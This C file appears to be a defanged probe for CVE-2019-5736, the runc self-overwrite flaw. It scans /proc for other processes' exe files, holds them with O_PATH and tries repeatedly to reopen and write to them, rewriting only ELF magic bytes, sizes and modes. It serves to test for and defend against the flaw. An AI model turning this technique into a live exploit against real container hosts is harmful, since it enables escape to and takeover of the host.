/* The attacker of CVE-2019-5736, harmless: it writes back what it has read, so that a success shows and breaks nothing.
 *
 *   overwrite FD      the file open (O_PATH) as FD is to be overwritten, now that nobody executes it any more
 *   overwrite SECS    "10s": for that long, every other process's /proc/PID/exe, held by O_PATH and tried again and again
 *
 * Prints "tried SIZE" for every file it got hold of, and "wrote SIZE" for every write that succeeded. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void tell(const char *what, int path) {
    struct stat status;
    if (fstat(path, &status) == 0)
        printf("%s %ld\n", what, (long)status.st_size);
}

static void attack(int path) {
    static const int flags[] = {O_RDWR, O_WRONLY, O_WRONLY | O_APPEND, O_RDWR | O_NONBLOCK};
    char name[64], first[4] = "\177ELF";
    struct stat status;
    snprintf(name, sizeof name, "/proc/self/fd/%d", path);
    for (unsigned i = 0; i < sizeof flags / sizeof *flags; i++) {
        int file = open(name, flags[i]);
        if (file < 0)
            continue;
        if (!(flags[i] & O_APPEND) && pwrite(file, first, 4, 0) == 4)
            tell("wrote", path);
        if (fstat(file, &status) == 0 && ftruncate(file, status.st_size) == 0)
            tell("wrote", path);
        close(file);
    }
    if (stat(name, &status) == 0 && chmod(name, status.st_mode & 07777) == 0)
        tell("wrote", path);
}

static void hunt(time_t seconds) {
    time_t end = time(NULL) + seconds;
    int held[64], count = 0;
    struct stat own, status;
    stat("/proc/self/exe", &own);
    while (time(NULL) < end) {
        DIR *directory = opendir("/proc");
        for (struct dirent *entry; directory && (entry = readdir(directory));) {
            char name[300];
            snprintf(name, sizeof name, "/proc/%s/exe", entry->d_name);
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
                continue;
            int path = open(name, O_PATH | O_CLOEXEC);
            if (path < 0)
                continue;
            bool own_file = fstat(path, &status) == 0 && status.st_ino == own.st_ino && status.st_dev == own.st_dev;
            if (own_file || count == 64) {
                close(path);
                continue;
            }
            tell("tried", path);
            held[count++] = path;
        }
        if (directory)
            closedir(directory);
        for (int i = 0; i < count; i++)
            attack(held[i]);
        if (count == 64) /* make room: the oldest are idle by now, and were tried often enough */
            while (count > 32)
                close(held[--count]);
    }
}

int main(int argc, char **argv) {
    if (argc != 2)
        return 2;
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (strchr(argv[1], 's')) {
        hunt(atoi(argv[1]));
        return 0;
    }
    tell("tried", atoi(argv[1]));
    for (int i = 0; i < 20; i++, usleep(10000))
        attack(atoi(argv[1]));
    return 0;
}
